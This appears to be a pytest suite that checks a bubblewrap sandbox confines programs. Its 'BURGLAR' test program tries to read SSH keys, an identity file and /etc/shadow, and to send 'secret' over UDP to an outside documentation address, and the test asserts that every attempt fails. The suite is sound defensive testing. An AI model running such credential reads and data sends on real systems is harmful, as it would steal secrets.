"""A program in the sandbox reaches its run directory, its inputs and its peers, and nothing else."""

import os
import platform
import shutil
import socket
from collections.abc import Iterator
from importlib.util import find_spec
from pathlib import Path

import psutil
import pytest

from huddle.running import sandbox
from huddle.running.spec import RunnerExit
from tests.unit.running.support import PYTHONS, lay

pytestmark = [
    pytest.mark.skipif(bool(sandbox.problem()), reason=sandbox.problem()),
    pytest.mark.timeout(120),
]

BURGLAR = """
import os, pathlib, socket, sys

def attempt(name, function):
    try:
        print(name, "GOT", function(), flush=True)
    except OSError:  # anything else is a fault of this program
        print(name, "failed", flush=True)

home, tcp, udp, unix, abstract = sys.argv[1:6]
for path in (home + "/.ssh/id_ed25519", home + "/.local/share/huddle/identity", "/etc/machine-id",
"/etc/shadow"):
    attempt(path, lambda: open(path).read())
attempt("home", lambda: os.listdir(home))
attempt("tcp", lambda: socket.create_connection(("127.0.0.1", int(tcp)), 1))
def send(host): socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", (host, int(udp)))
attempt("udp", lambda: send("192.0.2.1"))
send("127.0.0.1")  # a loopback of its own, where nobody is
attempt("unix", lambda: socket.socket(socket.AF_UNIX).connect(unix))
attempt("abstract", lambda: socket.socket(socket.AF_UNIX).connect("\\0" + abstract))
attempt("name", lambda: socket.getaddrinfo("localhost.example", 80))
attempt("usr", lambda: open("/usr/burglar", "w"))
attempt("python", lambda: open(os.path.join(sys.prefix, "burglar"), "w"))
attempt("input written", lambda: open("private.csv", "w"))
pathlib.Path("left.txt").write_text("left")
pathlib.Path("/tmp/left.txt").write_text("left")
attempt("input", open("private.csv").read)
"""


@pytest.fixture
def doors() -> Iterator[tuple[str, ...]]:
    """Open doors on this machine: TCP, UDP and an abstract socket, which record who comes."""
    with (
        socket.create_server(("127.0.0.1", 0)) as tcp,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp,
        socket.socket(socket.AF_UNIX) as abstract,
    ):
        udp.bind(("127.0.0.1", 0))
        udp.setblocking(False)
        name = f"huddle-test-{tcp.getsockname()[1]}"
        abstract.bind("\0" + name)
        abstract.listen()
        yield str(tcp.getsockname()[1]), str(udp.getsockname()[1]), name
        with pytest.raises(BlockingIOError):
            udp.recv(100)  # nothing has come


async def test_a_burglar_gets_nothing(tmp_path: Path, home: Path, doors: tuple[str, ...]) -> None:
    for name in (".ssh/id_ed25519", ".local/share/huddle/identity"):
        (home / name).parent.mkdir(parents=True)
        (home / name).write_text("secret")
    private = tmp_path / "private.csv"
    private.write_text("mine")
    path = str(tmp_path / "door")
    with socket.socket(socket.AF_UNIX) as unix:
        unix.bind(path)
        unix.listen()
        tcp, udp, abstract = doors
        table = await lay(
            tmp_path,
            BURGLAR,
            *(str(home), tcp, udp, path, abstract),
            parties=1,
            sandboxed=True,
            inputs=(("private.csv", private),),
        )
        assert await table.finish() == [RunnerExit(0)], table.screens[0].err
    *lines, last = table.outputs[0].splitlines()
    assert last == "input GOT mine"
    assert len(lines) == 13
    assert [line for line in lines if not line.endswith(" failed")] == []
    assert (tmp_path / "party0" / "left.txt").read_text() == "left"
    assert private.read_text() == "mine"
    assert "left.txt" not in os.listdir("/tmp")


@pytest.mark.parametrize("python", PYTHONS)
async def test_parties_in_sandboxes_compute_together(tmp_path: Path, python: str) -> None:
    table = await lay(tmp_path, "twice.py", lines=("10",), sandboxed=True, python=python)
    for screen in table.screens:
        await screen.until("second 30")
        assert screen.run
        screen.run.close_stdin()
    assert await table.finish() == [RunnerExit(0)] * 3


async def test_numpy_works_in_a_sandbox(tmp_path: Path) -> None:
    table = await lay(tmp_path, "arrays.py", sandboxed=True)
    assert await table.finish() == [RunnerExit(0)] * 3
    assert all("result 55" in out for out in table.outputs)


async def test_a_sandbox_is_stopped_with_all_that_is_in_it(tmp_path: Path) -> None:
    source = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        print("daemon", flush=True)
        time.sleep(987.25)
time.sleep(600)
"""
    table = await lay(tmp_path, source, parties=1, sandboxed=True)
    await table.screens[0].until("daemon")
    os_pid = table.runs[0].os_pid
    inside = psutil.Process(os_pid).children(recursive=True)
    assert len(inside) >= 3
    table.runs[0].stop("enough")
    exits = await table.finish()
    assert exits[0].reason == "enough"
    _, alive = psutil.wait_procs(inside, 20)
    assert not alive


async def test_a_kill_inside_is_told(tmp_path: Path) -> None:
    table = await lay(tmp_path, "import os; os.kill(os.getpid(), 9)", parties=1, sandboxed=True)
    exits = await table.finish()
    assert exits[0].signal == 9


async def test_a_program_cannot_write_to_the_runner(tmp_path: Path) -> None:
    source = """
import os, sys
for frame in sys._current_frames().values():
    while frame:
        name = frame.f_code.co_filename
        if name.endswith("runner/main.py"):
            try:
                open(name, "a")
            except OSError as error:
                print("refused")
        frame = frame.f_back
"""
    table = await lay(tmp_path, source, parties=1, sandboxed=True)
    assert await table.finish() == [RunnerExit(0)]
    assert set(table.outputs[0].split()) == {"refused"}


@pytest.mark.parametrize("sandboxed", [True, False], ids=["sandbox", "without"])
async def test_a_program_finds_a_normal_machine(tmp_path: Path, sandboxed: bool) -> None:
    program = Path(__file__).parents[2] / "programs" / "machine.py"
    table = await lay(tmp_path, program.read_text(), sandboxed=sandboxed, environment=(("GIVEN", "for you"),))
    exits = await table.finish(100)
    assert exits == [RunnerExit(0)] * 3, [screen.err for screen in table.screens]
    assert "given: for you" in table.outputs[0]
    if sandboxed:
        assert "ran by user, user, user" in table.outputs[0]


OLD = """#!/bin/sh
# A bubblewrap without {lacks}, as older ones are; its options come by --args.
if tr '\\0' '\\n' < "/proc/self/fd/$2" | grep -qxE -- '{lacks}'; then
    echo "bwrap: Unknown option" >&2
    exit 1
fi
exec {real} "$@"
"""


@pytest.mark.parametrize(
    ("lacks", "said"),
    [
        ("--disable-userns", ()),  # the filter refuses namespaces as well
        ("--size", ("its files may fill half of the memory (bubblewrap before 0.7)",)),
        (
            "--seccomp",
            ("it may try the whole kernel, since bubblewrap or the kernel can't filter system calls",),
        ),
        ("--seccomp|--disable-userns", ("the whole kernel", "namespaces of its own")),
        (
            "--seccomp|--disable-userns|--size",
            ("the whole kernel", "namespaces of its own", "half of the memory"),
        ),
    ],
)
async def test_an_older_bubblewrap_gives_a_weaker_sandbox_and_it_is_said(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, lacks: str, said: tuple[str, ...]
) -> None:
    old = tmp_path / "bin" / "bwrap"
    old.parent.mkdir()
    old.write_text(OLD.format(lacks=lacks, real=shutil.which("bwrap")))
    old.chmod(0o755)
    monkeypatch.setenv("PATH", f"{old.parent}:{os.environ['PATH']}")
    sandbox._tried.cache_clear()
    try:
        assert not sandbox.problem()
        for lack, words in zip(sandbox.weaker(), said, strict=True):
            assert words in lack
        table = await lay(tmp_path, "print('it runs')", parties=1, sandboxed=True)
        assert await table.finish() == [RunnerExit(0)]
        assert table.outputs == ["it runs\n"]
    finally:
        sandbox._tried.cache_clear()


def test_another_processor_gives_a_weaker_sandbox(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(platform, "machine", lambda: "riscv64")
    sandbox._tried.cache_clear()
    try:
        assert not sandbox.problem()
        assert sandbox.weaker() == (
            "it may try the whole kernel, since there is no filter of system calls for riscv64",
        )
    finally:
        sandbox._tried.cache_clear()


@pytest.mark.skipif(not all(map(find_spec, ("numpy", "gmpy2", "uvloop"))), reason="needs all of them")
async def test_what_honest_programs_use_works(tmp_path: Path) -> None:
    assert sandbox.weaker() == ()
    table = await lay(tmp_path, "uses.py", parties=1, sandboxed=True)
    assert await table.finish(100) == [RunnerExit(0)], table.screens[0].err
    assert table.outputs[0].splitlines() == [
        "multiprocessing", "sockets", "threads and processes", "numpy, gmpy2, uvloop", "MPyC"
    ]  # fmt: skip
